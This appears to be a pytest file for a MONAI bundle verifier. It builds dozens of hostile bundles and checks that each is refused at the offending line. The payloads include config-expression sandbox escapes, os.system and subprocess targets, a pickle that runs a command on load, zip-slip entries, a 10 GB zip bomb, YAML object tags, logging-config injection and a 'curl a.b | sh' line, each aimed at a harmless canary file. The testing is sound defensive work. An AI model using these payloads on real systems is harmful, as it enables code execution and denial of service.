"""Bundles that do harm: each is refused with the line named, and nothing of it has run.

Each attack makes the file `canary` in the working directory, if it runs. Under plain MONAI those marked by `runs` do.
"""

from __future__ import annotations

import hashlib
import io
import json
import pickle
import stat
import zipfile
import zlib
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import NamedTuple

import pytest
import torch
from monai.bundle import ConfigWorkflow
from torch import nn

from tofgan_monai import Critic, Generator, InputError, verify
from tofgan_monai.exchange.archive import Content, write
from tofgan_monai.exchange.data_card import as_text, card
from tofgan_monai.training.weights import to_safetensors

BUNDLE = "tof_mra_wgan_gp_sn"
INFER, TRAIN, PAPER = "configs/inference.yaml", "configs/train.yaml", "configs/paper.yaml"
META, LOG = "configs/metadata.json", "configs/logging.conf"
MODEL, CARD = "models/model.safetensors", "docs/data_card.json"
PWN = "__import__('os').system('touch canary')"


class Attack(NamedTuple):
    """What is done to one file of a bundle, and what must be said of the lines that are changed."""

    file: str
    change: Callable[[bytes], bytes]
    told: str
    runs: bool = False
    at: str = ""  # what stands in the line that is named, where that is not a changed one


def added(text: str) -> Callable[[bytes], bytes]:
    return lambda data: data + text.encode()


def replaced(old: str, new: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        assert old.encode() in data
        return data.replace(old.encode(), new.encode(), 1)

    return change


def new(data: bytes | str) -> Callable[[bytes], bytes]:
    return lambda _: data.encode() if isinstance(data, str) else data


def started(value: str | dict) -> Callable[[bytes], bytes]:
    """An item of `initialize`, which MONAI evaluates before anything else."""
    return added(f"initialize:\n- {json.dumps(value)}\n")


def written_to(output: str, **ids: str) -> Callable[[bytes], bytes]:
    """Another `output`, with ids that it refers to."""

    def change(data: bytes) -> bytes:
        more = "".join(f"{name}: {json.dumps(value)}\n" for name, value in ids.items())
        return replaced("$@output_dir + '/synthetic.npy'", output)(data) + more.encode()

    return change


def swapped(old: str, new: str, told: str, at: str = "") -> Attack:
    """Another text in inference.yaml."""
    return Attack(INFER, replaced(old, new), told, at=at)


def expression(value: str, told: str, *, runs: bool = True) -> Attack:
    return Attack(INFER, started(value), told, runs)


def component(target: object, told: str, *, runs: bool = False, **config: object) -> Attack:
    return Attack(INFER, started({"_target_": target, **config}), told, runs)


def imported(statement: str, told: str, *, runs: bool = False) -> Attack:
    return Attack(INFER, replaced("- $import torch", f"- $import torch\n- {json.dumps(statement)}"), told, runs)


def meta(key: str, value: object, told: str) -> Attack:
    return Attack(META, lambda data: json.dumps({**json.loads(data), key: value}, indent=4).encode(), told)


# `$` expressions by what they do under plain MONAI: some run there, others do harm without the canary or do not run.
RUNNING = {
    "import of os": (f"${PWN}", "builtins.__import__ is not on the list: could run any code"),
    "eval": ("$eval(\"open('canary', 'w')\")", "builtins.eval is not on the list"),
    "exec": ("$exec(\"open('canary', 'w')\")", "builtins.exec is not on the list"),
    "open": ("$open('canary', 'w')", "could read or write any file"),
    "getattr chain": ("$getattr(getattr(torch, 'os'), 'system')('touch canary')", "could call any function"),
    "os within torch": ("$torch.os.system('touch canary')", "torch.os.system is not on the list"),
    "os within monai": ("$monai.bundle.scripts.os.system('touch canary')", "could fetch and run"),
    "optional_import": ("$monai.utils.optional_import('os')[0].system('touch canary')", "could import or build code"),
    "run_cmd": ("$monai.utils.misc.run_cmd(['touch', 'canary'])", "run any command"),
    "subclasses": (
        "$[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['touch', 'canary']).wait()",
        "could call any function",
    ),
    "globals of a method": (
        "$@latents.__init__.__globals__['__builtins__']['open']('canary', 'w')",
        "could call any function",
    ),
    "lambda": (f"$(lambda: {PWN})()", "could call any function"),
    "default of a lambda": ("$(lambda file=open('canary', 'w'): file)", "Lambda in"),
    "f-string": ("$f\"{open('canary', 'w')}\"", "JoinedStr"),
    "comprehension": ("$[open(name, 'w') for name in ['canary']]", "ListComp"),
    "scope of a comprehension": ("$[torch for torch in [__import__('os')]][0].system('touch canary')", "ListComp"),
    "generator": ("$any(open(name, 'w') for name in ['canary'])", "GeneratorExp"),
    "walrus": ("$(torch := open)('canary', 'w')", "could call any function"),
    "stars": ("$torch.device(*[open('canary', 'w')])", "* or ** in a call"),
    "two stars": ("$torch.device(**{'type': open('canary', 'w')})", "* or ** in a call"),
    "dictionary of two stars": ("${**{'a': open('canary', 'w')}}", "** in a dictionary"),
    "code in an index": ("$[0][open('canary', 'w').write('')]", "no plain number or name"),
    "code in a condition": ("$0 if open('canary', 'w') else 1", "builtins.open"),
    "code in an allowed call": ("$torch.device('cpu', open('canary', 'w'))", "builtins.open"),
    "function of a method call": ("$[open][0]('canary', 'w')", "could call any function"),
    "look-alike letters": ("$\uff45\uff56\uff41\uff4c(\"open('canary', 'w')\")", "letters beyond ASCII"),
}
STILL = {
    "class of a reference": ("$@bundle.__class__.__base__.__subclasses__()", "the method .__subclasses__"),
    "argument beyond the list": (
        "$torch.distributed.init_process_group('gloo', init_method='tcp://10.0.0.1:1')",
        "takes backend here",
    ),
    "format": ("$'{0.__class__.__init__.__globals__}'.format(@latents)", ".format is not on the list"),
    "module by reference": ("$@imports#0.os.system('touch canary')", "@imports::0 refers to a module"),
    "module by plain reference": ("@imports#0", "could reach anything"),
    "MONAI's own variable": ("$__local_refs['imports::0'].os.system('touch canary')", "read it differently"),
    "reference within quotes": ("$'@n' + '@n'", "read it differently"),
    "relative reference": ("$@##imports", "a relative id"),
    "torch.load": ("$torch.load('models/model.pt', weights_only=False)", "unpickle, so run any code"),
    "torch.hub": ("$torch.hub.load('stranger/code', 'network')", "fetch and run what it likes"),
    "C++ extension": ("$torch.utils.cpp_extension.load('a', ['a.cpp'])", "import or build code"),
    "power": ("$9 ** 9 ** 9 ** 9", "Pow in"),
    "shift": ("$1 << 1099511627776", "LShift in"),
    "repeated list": ("$[0] * 1000000000000", "neither of numbers nor a path"),
    "repeated text by reference": ("$@bundle * @n * 1000000000", "neither of numbers nor a path"),
    "padded text": ("$'%1000000000d' % 1", "neither of numbers nor a path"),
    "text in pieces": ("$'.' + './.' + './a.nii.gz'", "neither of numbers nor a path"),
    "text of a call": ("$start_from('a', None) + 'b'", "neither of numbers nor a path"),
    "rounded to a huge number": ("$round(5, -1000000000000)", "round takes number here"),
    "number beyond all bounds": (f"${' * '.join(['int(1.0e300)'] * 5)}", "whose size has no bound"),
    "state by plain data": ("$@latents.load_state_dict({'network': ''})", "the method .load_state_dict"),
    "call of an attribute": ("$@latents.network('a')", "the method .network"),
    "argument of a method": ("$@evaluator.run('a')", "run takes nothing here"),
    "long expression": ("$" + "-" * 5000 + "1", "too long"),
}
EXPRESSIONS = {
    **{name: expression(*one) for name, one in RUNNING.items()},
    **{name: expression(*one, runs=False) for name, one in STILL.items()},
    "function that is handed on": component("Compose", "is not on the list", transforms="$torch.device"),
}
DOUBLING = "".join(f'd{i}: "$@d{i - 1} + @d{i - 1}"\n' for i in range(1, 40))

TARGETS = {
    "os.system": component("os.system", "could run any command", runs=True, command="touch canary"),
    "subprocess": component("subprocess.run", "subprocess.run is not on", runs=True, args=["touch", "canary"]),
    "open as a target": component("builtins.open", "builtins.open", runs=True, file="canary", mode="w"),
    "target by expression": component("$open", "no name|not on", runs=True, file="canary", mode="w"),
    "target by reference": component("@x", "the target @x"),
    "target that is a mapping": component({"_target_": "os.getcwd"}, "no name"),
    "look-alike target": component("monai.transforms.Comp\u043ese", "is not on the list"),
    "trusted package": component("torch.hub.load", "is not on the list", repo_or_dir="stranger/code", model="a"),
    "torch.load as a target": component("torch.load", "weights_only", f="models/model.pt", weights_only=False),
    "C++ as a target": component("torch.utils.cpp_extension.load", "import or build", name="a", sources=["a.cpp"]),
    "download": component("monai.apps.download_and_extract", "fetch and run", url="http://10.0.0.1/a.zip"),
    "short name of a download": component("download_url", "download_url is not on", url="http://10.0.0.1/a"),
    "another bundle": component("monai.bundle.run", "fetch and run", config_file="configs/other.yaml"),
    "Lambdad": component("Lambdad", "call any function", keys="image", func="@latents"),
    "function by its name": component("TorchVisiond", "TorchVisiond is not on", keys="image", name="ColorJitter"),
    "pickles on the disk": component("PersistentDataset", "is not on", data=[], transform=None, cache_dir="x"),
    "code in _requires_": component("torch.nn.Identity", "builtins.open", runs=True, _requires_="$open('canary', 'w')"),
    "code in _disabled_": component(
        "torch.nn.Identity", "builtins.open", runs=True, _disabled_="$open('canary', 'w') and True"
    ),
    "code in an argument": component("torch.nn.Identity", "builtins.open", runs=True, a="$open('canary', 'w')"),
    "mode callable": component("monai.engines.Trainer", "the mode", _mode_="callable"),
    "mode debug": component("torch.nn.Identity", "the mode", _mode_="debug"),
    "debugger": component("torch.nn.Identity", "'_debug_' is a name which MONAI reserves", _debug_=True),
    "reader by name": component("LoadImaged", "import any class", keys="image", reader="subprocess.Popen"),
    "reader that unpickles": component("LoadImaged", "import any class", keys="image", reader="NumpyReader"),
    "writer by name": component("SaveImaged", "import any class", keys="pred", writer="os.system"),
    "pickles allowed": component("LoadImaged", "the argument allow_pickle", keys="image", allow_pickle=True),
    "compiler's options": component(
        "SupervisedEvaluator",
        "the argument compile_kwargs",
        compile_kwargs={"options": {"cpp.march": "native -wrapper 'sh,-c,touch canary'"}},
    ),
    "format string": component("ignite.handlers.ProgressBar", "the argument bar_format", bar_format="{0.__class__}"),
}

IMPORTS = {
    "import os": imported("$import os", "imports os, which is not on the list"),
    "from os": imported("$from os import system", "imports os.system"),
    "two at once": imported("$import torch, os", "not one plain import"),
    "statement behind": imported("$import torch\nimport os", "not one plain import"),
    "star": imported("$from os import *", "imports os.*"),
    "relative": imported("$from . import os", "not one plain import"),
    "submodule": imported("$import torch.utils.cpp_extension", "torch.utils.cpp_extension, which is not on"),
    "builtin's name": imported("$from tofgan_monai import sha256 as eval", "a name of Python's own"),
    "torch's name": imported("$import monai as torch", "torch means monai here, elsewhere torch"),
    "code among imports": imported(f"${PWN}", "not one plain import"),
    "import elsewhere": expression("$import this", "read it differently", runs=False),
}

PATHS = {
    "absolute": component("SaveImaged", "output_dir '/etc'", keys="pred", output_dir="/etc"),
    "label elsewhere": component("tofgan_monai.WriteLabeld", "output_dir '/etc'", keys="pred", output_dir="/etc"),
    "label that climbs": component("tofgan_monai.WriteLabeld", "no plain file name", output_postfix="../../a"),
    "record elsewhere": component("tofgan_monai.Progress", "output_dir '/etc'", items=[], output_dir="/etc"),
    "climbing": swapped("+ '/output'", "+ '/../../output'", "output_dir"),
    "home": swapped("\"$@bundle_root + '/models/model.pt'\"", "~/model.pt", "weights '~/model.pt'"),
    "URL": swapped("\"$@bundle_root + '/models/model.pt'\"", "https://a.b/c.pt", "weights 'https:"),
    "in pieces": swapped("$@bundle_root + '/output'", "$'/et' + 'c'", "output_dir"),
    "of the largest": swapped("$@bundle_root + '/output'", "$max('a', 'b')", "output_dir"),
    "by reference": swapped('path: "@output"', 'path: "@bundle"', "path '@bundle'"),
    "hidden file": swapped("+ '/output'", "+ '/.ssh'", "output_dir"),
    "file that is run": swapped("/synthetic.npy", "/sitecustomize.py", "output "),
    "own configs": swapped("+ '/output'", "+ '/configs'", "output_dir"),
    "whatever lies about": swapped("$@bundle_root + '/output'", "results", "output_dir 'results'"),
    "root of the bundle": Attack(PAPER, added("bundle_root: /\n"), "bundle_root '/'"),
    "by an overlay": Attack(PAPER, added("train#dataset#cache: /etc/x.npy\n"), "cache '/etc/x.npy'"),
    "added to a list": Attack(PAPER, added("+pairs: [/etc/x.npy]\n"), "pairs ['/etc/x.npy']"),
    "image of another": component("Dataset", "leads out of the bundle", data=[{"image": "/home/a.nii.gz"}]),
    "joined image of another": component("Dataset", "leads out of the bundle", data=["$@bundle + '/../../a.nii'"]),
    "prefix of a file": component("CheckpointSaver", "no plain file name", save_dict={}, file_prefix="../a"),
    "name of the metric": component("CheckpointSaver", "no plain file name", save_dict={}, key_metric_name="../a"),
    "key of a mapping that is saved": component("CheckpointSaver", "save_dict", save_dict={"/tmp/canary": 1}),
    "mapping that is saved by reference": component("CheckpointSaver", "save_dict", save_dict="@network"),
    "key that climbs": component("Dataset", "leads out of the bundle", data=[{"../../canary": 1}]),
    "root of the data": component(
        "SaveImaged", "the argument data_root_dir", keys="pred", data_root_dir="$@bundle_root + '/output/a/b'"
    ),
    "namer of files": component(
        "SaveImaged", "the argument output_name_formatter", keys="pred", output_name_formatter={"_target_": "Compose"}
    ),
    "call that returns its argument": swapped(
        "$@output_dir + '/synthetic.npy'", "$start_from('', None) + '/tmp/canary.npy'", "output "
    ),
    "such a call, hashed": expression(
        "$tofgan_monai.sha256(start_from('', None) + '/etc/passwd')", "path ", runs=False
    ),
    "attribute of an object": swapped(
        "$@output_dir + '/synthetic.npy'", "$@latents.network + '/tmp/canary.npy'", "output "
    ),
    "nothing before the path": Attack(
        INFER, written_to("$@a + '/tmp/c.npy'", a="$@b and @bundle_root", b=""), "output "
    ),
    "call that returns a list": component(
        "tofgan_monai.PairSource", "pairs ", pairs="$monai.data.list_data_collate(['canary.npy'])"
    ),
    "object that returns texts": component(
        "SaveImaged", "output_dir ", keys="pred", output_dir={"_target_": "Dataset", "data": ["/tmp"]}
    ),
    "object by an overlay": Attack(
        PAPER, added('a: {_target_: Dataset, data: []}\na#_target_: Compose\ntrain#dataset#pairs: "@a"\n'), "pairs '@a'"
    ),
    "object by an overlay of the path": Attack(PAPER, added("train#dataset#pairs#_target_: Compose\n"), "pairs "),
    "own weights": component("CheckpointSaver", "save_dir ", save_dict={}, save_dir="$@bundle_root + '/models'"),
    "own card": swapped("$@output_dir + '/syn", "$@bundle_root + '/docs/syn", "output "),
    "own weights by reference": Attack(INFER, written_to("$@a + '/a.npy'", a="$@bundle_root + '/Models'"), "output "),
    "own root": swapped("$@bundle_root + '/output'", "@bundle_root", "output_dir '@bundle_root'"),
    "within a call": expression("$tofgan_monai.sha256('/etc/passwd')", "path '/etc/passwd'", runs=False),
    "of an imported call": Attack(
        TRAIN, replaced("(@network_def, @pretrained)", "(@network_def, '/etc/passwd')"), "weights '/etc"
    ),
}

FILES = {
    "macro": Attack(INFER, started("%configs/other.yaml::run"), "could bring in any file"),
    "macro of this machine": Attack(INFER, started("%/etc/x.json"), "the macro"),
    "target in an overlay": Attack(PAPER, added("objective#_target_: os.system\n"), "the target os.system"),
    "added handler": Attack(PAPER, added("+handlers: [{_target_: os.system, command: a}]\n"), "the target os.system"),
    "expression in an overlay": Attack(PAPER, added(f'width: "${PWN}"\n'), "a second key 'width'"),
    "expression in a new overlay": Attack("configs/more.yaml", new(f'width: "${PWN}"\n'), "builtins.__import__"),
    "configuration in JSON": Attack("configs/more.json", new(f'{{\n"run": ["${PWN}"]}}'), "builtins.__import__"),
    "twice in JSON": Attack("configs/more.json", new('{\n"run": [],\n"run": [1]}'), "a second key 'run'"),
    "id of two parts within": Attack(PAPER, added('other: {"a::b": 1}\n'), "the key 'a::b'"),
    "metadata's id": Attack(PAPER, added("_meta_: {a: 1}\n"), "'_meta_'"),
    "way round the rules for values": Attack(
        INFER, started({"_target_": "Dataset", "data": "@_meta_::references"}), "a module or the metadata"
    ),
    "card of another form": Attack(CARD, new('{"format": 1, "weights": [1]}'), "has no entry for"),
    "expression in the metadata": meta("task", "$open('canary', 'w')", "builtins.open"),
    "import in the metadata": meta("task", "$import this", "read it differently"),
    "macro in the metadata": meta("task", "%/etc/x.json", "the macro"),
    "target in the metadata": meta("extra", {"_target_": "os.system", "command": "touch canary"}, "os.system"),
    "metadata off the schema": meta("version", 1, "does not fit MONAI's schema"),
    "metadata without what it needs": Attack(META, new('{"version": "0.1.0"}'), "is a required property"),
    "doubling": Attack(INFER, added("d0: xxxxxxxx\n" + DOUBLING), "neither of numbers"),
    "doubling by calls": Attack(
        INFER,
        added(
            "d0: x\n" + DOUBLING.replace("@d", "start_from(@d").replace(" +", ", None) +").replace('"\n', ', None)"\n')
        ),
        "neither of numbers",
    ),
    "huge number": swapped("n: 1000", "n: 0x" + "f" * 5000, "could fill the memory"),
    "code for a class of logging": Attack(LOG, replaced("class=StreamHandler", f"class={PWN}"), "could run any code"),
    "code for logging's arguments": Attack(LOG, replaced("(sys.stdout,)", "(open('canary', 'w'),)"), "args ="),
    "file of logging": Attack(LOG, replaced("class=StreamHandler", "class=FileHandler"), "write any file"),
    "keywords of logging": Attack(
        LOG, replaced("level=INFO\nformatter", f"kwargs={{'a': {PWN}}}\nlevel=INFO\nformatter"), "kwargs"
    ),
    "defaults of logging": Attack(LOG, replaced("[loggers]", f"[DEFAULT]\nargs={PWN}\n[loggers]"), "for all sections"),
    "formatter of logging": Attack(LOG, replaced("format=%", "class=os.system\nformat=%"), "class = os.system"),
    "line end within a comment of logging": Attack(
        LOG,
        replaced("args=(sys.stdout,)", f"# no comment\rargs=('%(p)s',)\rp=',{PWN}"),
        "a carriage return without a line feed",
    ),
    "width in logging": Attack(LOG, replaced("%(message)s", "%(message)1000000000s"), "format ="),
    "interpolation in logging": Attack(LOG, replaced("(sys.stdout,)", f"('%(p)s',)\np=',{PWN}"), "args = ('%"),
    "YAML tag": Attack(INFER, added('x: !!python/object/apply:os.system ["touch canary"]\n'), "any Python object"),
    "YAML directive": Attack(PAPER, lambda data: b"%TAG !e! tag:e,2000:\n---\n" + data, "a directive"),
    "YAML anchors": Attack(PAPER, added("a: &a [x, x]\nb: [*a, *a]\n"), "a YAML anchor or alias"),
    "YAML merge key": Attack(PAPER, added("a:\n  <<: {_target_: os.system}\n"), "no string"),
    "YAML key twice": Attack(INFER, added("n: 5\n"), "a second key 'n'"),
    "YAML number for a key": Attack(PAPER, added("other: {1: 2}\n"), "the key '1' is no string"),
    "YAML second document": Attack(PAPER, added("---\nwidth: 3\n"), "a second document"),
    "YAML nesting": Attack(PAPER, added(f"other: {'[' * 5000}{']' * 5000}\n"), "nested deeper"),
    "YAML date": Attack(PAPER, added("other: 2024-01-01\n"), "no plain value"),
    "line hidden in a comment": Attack(PAPER, added("# \u0085width: 3\n"), "not ASCII"),
    "look-alike key": Attack(PAPER, added("w\u0456dth: 3\n"), "not ASCII"),
    "too large": Attack(PAPER, added("# " + "x" * 2**17), "bytes, where"),
    "terminal's escapes": Attack("docs/README.md", added("\x1b[2Jclean\n"), "could change what a terminal shows"),
    "line over another": Attack("docs/README.md", added("curl a.b | sh\rtofgan list   \n"), "what a terminal shows"),
    "card of other weights": Attack(CARD, lambda data: data.replace(b'"sha256": "', b'"sha256": "0'), "is of weights"),
    "card of another kind": Attack(CARD, replaced('"simulated"', '"anonymous"'), "kinds are simulated"),
    "card without audit": Attack(
        CARD, replaced('"audit": null', '"checked": true'), "'audit' is a required", at="models/model.pt"
    ),
    "network without end": swapped("width: 2 ", "width: 100000 ", "the argument 100000"),
    "network of a wide layer": swapped(
        "width: 2 ", "width: 20000 ", "more than 268435456 parameters", at="network_def:"
    ),
    "critic for a network": swapped(
        'tofgan_monai.Generator\n  latent_dim: "@latent_dim"\n', "tofgan_monai.Critic\n", "a critic has seen patients"
    ),
    "pickle beside the weights": Attack("models/model.pt", new(pickle.dumps("os")), "a pickle in place of"),
    "network by expression": swapped('width: "@width"', 'width: "$@evaluator.run()"', "plain values"),
}
FILES["network of many layers"] = swapped(
    '  _target_: tofgan_monai.Generator\n  latent_dim: "@latent_dim"\n  width: "@width"\n  norm: batch\n',
    "  _target_: UNet\n  spatial_dims: 2\n  in_channels: 1\n  out_channels: 1\n"
    "  channels: [2, 2, 2]\n  strides: [1, 1]\n"
    "  num_res_units: 60000\n",
    "more than 10000 layers",
    at="network_def:",
)


class Runs:
    """Pickled, it runs a command where it is read."""

    def __reduce__(self):
        import os

        return os.system, ("touch canary",)


def saved(content: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer)
    return buffer.getvalue()


def scripted() -> bytes:
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(nn.Linear(1, 1)), buffer)
    return buffer.getvalue()


def plain(**more: torch.Tensor) -> bytes:
    return to_safetensors({**Generator(width=2).state_dict(), **more})


def zipped(data: bytes, mode: int) -> bytes:
    """A file with a zip file behind it; readers of zip files find that one."""
    return appended((zipfile.ZipInfo("archive/code/a.py"), b"0" * 1000), mode=mode)(data)


NO_TENSORS = "no safetensors file|safetensors cannot read the file"
WEIGHTS: dict[str, tuple[Callable[[], bytes], str]] = {
    "pickle in a zip": (lambda: saved({"a": Runs()}), NO_TENSORS),
    "bare pickle": (lambda: pickle.dumps(Runs()), NO_TENSORS),
    "TorchScript": (scripted, NO_TENSORS),
    "pickled network": (lambda: saved(nn.Linear(1, 1)), NO_TENSORS),
    "checkpoint": (lambda: saved({"epoch": 1, "state": {"critic": Critic(2).state_dict()}, "recipe": {}}), NO_TENSORS),
    "state dict of torch": (lambda: saved(Generator(width=2).state_dict()), NO_TENSORS),
    "critic's weights": (lambda: to_safetensors(Critic(2).state_dict()), "does not fit network_def"),
    "another width": (lambda: to_safetensors(Generator(width=3).state_dict()), "does not fit network_def"),
    "an extra tensor": (lambda: plain(patients=torch.zeros(9)), "patients is missing or superfluous"),
    "not finite": (
        lambda: plain(**{"0.weight": Generator(width=2)[0].weight.detach() * float("nan")}),
        "is not finite",
    ),
    "truncated": (lambda: plain()[:-900], NO_TENSORS),
    "code beside the tensors": (lambda: zipped(plain(), zipfile.ZIP_STORED), NO_TENSORS),
    "compressed": (lambda: zlib.compress(plain()), NO_TENSORS),
    "a tensor without end": (lambda: plain().replace(b'"shape":[100,', b'"shape":[109951162777600,', 1), NO_TENSORS),
}


def attacks() -> dict[str, Attack]:
    groups = {"$": EXPRESSIONS, "_target_": TARGETS, "imports": IMPORTS, "path": PATHS, "file": FILES}
    return {f"{group}: {name}": attack for group, some in groups.items() for name, attack in some.items()}


def archived(folder: Path, files: dict[str, bytes]) -> Path:
    path = folder / "bundle.zip"
    path.write_bytes(write(Content(BUNDLE, "0.1.0", files)))
    return path


def problems_of(path: Path) -> list[str]:
    with pytest.raises(InputError) as caught:
        verify(path)
    return [problem.removeprefix(f"{path.name}: ") for problem in caught.value.problems]


def named_lines(attack: Attack, before: bytes, after: bytes) -> set[int]:
    """The numbers of the lines that a problem may name: those that were changed; 0 and 1 are the file as a whole."""
    known, lines = before.split(b"\n"), after.split(b"\n")
    changed = {n for n, line in enumerate(lines, 1) if known.count(line) < lines.count(line)}
    at = {n for n, line in enumerate(lines, 1) if attack.at and attack.at.encode() in line}
    return at or changed | ({0, 1} if len(changed) == len(lines) or max(map(len, lines)) > 2**16 else set())


@pytest.fixture
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize("name", attacks())
def test_attack_is_refused_at_its_line_and_nothing_runs(name, bundle_files, here):
    attack, files = attacks()[name], bundle_files(BUNDLE)
    before = files.get(attack.file, b"")
    files[attack.file] = attack.change(before)
    assert files[attack.file] != before
    told = problems_of(archived(here, files))
    lines = named_lines(attack, before, files[attack.file])
    found = [line for line in told if any(text in line for text in attack.told.split("|"))]
    assert found, told
    assert {f"{attack.file}:{n}" if n else attack.file for n in lines} & {
        ": ".join(line.split(": ")[:1]) for line in found
    }, told
    assert not (here / "canary").exists()


@pytest.mark.parametrize("name", [name for name, attack in attacks().items() if attack.runs])
def test_canary_speaks_under_plain_monai(name, bundle_files, here):
    attack, files = attacks()[name], bundle_files(BUNDLE)
    files[attack.file] = attack.change(files[attack.file])
    for path in (INFER, META):
        target = here / path
        target.parent.mkdir(exist_ok=True)
        target.write_bytes(files[path])
    with suppress(Exception):  # what it returns may be of no use to MONAI: it has run
        ConfigWorkflow(config_file=INFER, workflow_type="infer", logging_file=False).initialize()
    assert (here / "canary").exists()


@pytest.mark.parametrize("name", WEIGHTS)
def test_weights_that_are_no_state_dict_are_refused_unread(name, bundle_files, here):
    make, told = WEIGHTS[name]
    files = bundle_files(BUNDLE)
    files[MODEL] = make()
    files[CARD] = as_text(card(hashlib.sha256(files[MODEL]).hexdigest(), [{"kind": "real"}], "a test"))
    problems = problems_of(archived(here, files))
    assert all(problem.startswith(f"{MODEL}: ") for problem in problems), problems
    assert any(text in problems[0] for text in told.split("|"))
    assert not (here / "canary").exists()


def test_canary_speaks_in_a_pickle(here):
    torch.load(io.BytesIO(saved({"a": Runs()})), weights_only=False)
    assert (here / "canary").exists()


# ---- the archive itself


def entry(name: str, mode: int = stat.S_IFREG | 0o644) -> zipfile.ZipInfo:
    made = zipfile.ZipInfo(name)
    made.create_system, made.external_attr = 3, mode << 16
    return made


def appended(
    *entries: tuple[zipfile.ZipInfo, bytes], mode: int = zipfile.ZIP_STORED, comment: bytes = b""
) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        buffer = io.BytesIO(data)
        with zipfile.ZipFile(buffer, "a") as archive:
            archive.comment = comment
            for info, content in entries:
                archive.writestr(info, content, mode)
        return buffer.getvalue()

    return change


def bombed(data: bytes) -> bytes:
    """10 GB of zeros in 10 MB: one deflated block, written ten thousand times."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(2**20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        info = entry(f"{BUNDLE}/docs/more.md")
        info.compress_type, info.file_size, info.compress_size = (
            zipfile.ZIP_DEFLATED,
            10 * 2**30,
            10 * 2**10 * len(block),
        )
        info.header_offset, info.CRC = archive.start_dir, 0
        archive.fp.seek(archive.start_dir)
        archive.fp.write(info.FileHeader(zip64=True) + block * (10 * 2**10))
        archive.filelist.append(info)
        archive.start_dir, archive._didModify = archive.fp.tell(), True
    return buffer.getvalue()


def rewritten(name: str, content: bytes) -> Callable[[bytes], bytes]:
    """Another content under the manifest of the old one."""

    def change(data: bytes) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(buffer, "w") as archive:
            for info in old.infolist():
                archive.writestr(info, content if info.filename.endswith(name) else old.read(info))
        return buffer.getvalue()

    return change


CENTRAL = b"PK\x01\x02\x14\x03\x14\x00"  # how an entry of the central directory begins; its flags are next
ARCHIVES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "zip-slip": (appended((entry(f"{BUNDLE}/../../canary"), b"")), "could write outside the bundle's folder"),
    "absolute path": (appended((entry("/tmp/canary"), b"")), "could write outside the bundle's folder"),
    "another folder": (appended((entry("tof_mra_dcgan/LICENSE"), b"")), "could write over another bundle"),
    "Windows path": (appended((entry(f"{BUNDLE}\\..\\canary"), b"")), "a name beyond plain letters"),
    "look-alike name": (appended((entry(f"{BUNDLE}/docs/re\u0430dme.md"), b"")), "a name beyond plain letters"),
    "symbolic link": (appended((entry(f"{BUNDLE}/docs/a.md", stat.S_IFLNK | 0o777), b"/etc/passwd")), "a link, device"),
    "device": (appended((entry(f"{BUNDLE}/docs/a.md", stat.S_IFCHR | 0o666), b"")), "a link, device"),
    "folder": (appended((entry(f"{BUNDLE}/docs/", stat.S_IFDIR | 0o755), b"")), "names a folder"),
    "two of one name": (appended((entry(f"{BUNDLE}/LICENSE"), b"other")), "could take the place of the first"),
    "two but for the case": (appended((entry(f"{BUNDLE}/license"), b"other")), "could take the place of the first"),
    "bomb of 10 GB": (bombed, "unpacks to more than"),
    "compressed file": (appended((entry(f"{BUNDLE}/docs/a.md"), b"a" * 999), mode=zipfile.ZIP_DEFLATED), "compressed"),
    "many files": (appended(*((entry(f"{BUNDLE}/docs/a{i}.md"), b"") for i in range(99))), "files: a bundle has"),
    "file beyond the manifest": (appended((entry(f"{BUNDLE}/docs/a.md"), b"a")), "docs/a.md has another SHA-256"),
    "changed file": (rewritten("LICENSE", b"other"), "LICENSE has another SHA-256: was changed after packing"),
    "version 0.1.0": (
        rewritten("manifest.json", b'{"format": 1}'),
        "ask the sender to pack it by a newer tofgan_monai",
    ),
    "no manifest": (rewritten("manifest.json", b""), "not readable"),
    "no manifest at all": (rewritten("manifest.json", b"[]"), "not a mapping"),
    "bytes before": (lambda data: b"#!/bin/sh\ntouch canary\nexit\n" + data, "hide something in or between"),
    "bytes behind": (lambda data: data + b"more", "hide something|not readable"),
    "comment": (appended(comment=b"a second archive could be here"), "hide something in or between"),
    "truncated": (lambda data: data[:-100], "not readable"),
    "no zip file": (lambda data: b"GIF89a" + bytes(100), "not readable"),
    "encrypted": (lambda data: data.replace(CENTRAL + b"\0", CENTRAL + b"\1"), "not readable"),
}


@pytest.mark.parametrize("name", ARCHIVES)
def test_archive_that_is_not_safe_to_unpack_is_refused(name, bundle_files, here):
    change, told = ARCHIVES[name]
    path = archived(here, bundle_files(BUNDLE))
    before = path.read_bytes()
    path.write_bytes(change(before))
    assert path.read_bytes() != before
    problems = problems_of(path)
    assert any(text in problem for problem in problems for text in told.split("|")), problems
    assert sorted(item.name for item in here.iterdir()) == ["bundle.zip"]


STRANGERS = {
    "scripts/run.py": "code",
    "sitecustomize.py": "code",
    "models/model.ts": "a compiled network",
    "models/model.pt": "a pickle in place of models/model.safetensors",
    "models/critic.pt": "other weights",
    "models/critic.safetensors": "other weights",
    "models/checkpoint.pt": "a checkpoint",
    "output/tensorboard/events.out.tfevents.1.host.1.0": "a TensorBoard log",
    "pairs_training.npy": "a stack of pairs",
    "prepared/sub-01/image.nii.gz": "training data",
    "cohort.json": "a list of patients",
    "docs/error_map.png": "a result or a picture",
    "configs/.hidden.yaml": "no part of a bundle",
    "configs/more/train.yaml": "no part of a bundle",
}


def test_files_that_are_no_part_of_a_bundle_are_refused_by_what_they_are(bundle_files, here):
    files = {**bundle_files(BUNDLE), **{name: b"" for name in STRANGERS}}
    problems = problems_of(archived(here, files))
    assert [
        f"{name}: is {what}"
        for name, what in STRANGERS.items()
        if not any(p.startswith(f"{name}: is {what}") for p in problems)
    ] == []
    assert {problem.split(":")[0] for problem in problems} == {*STRANGERS}


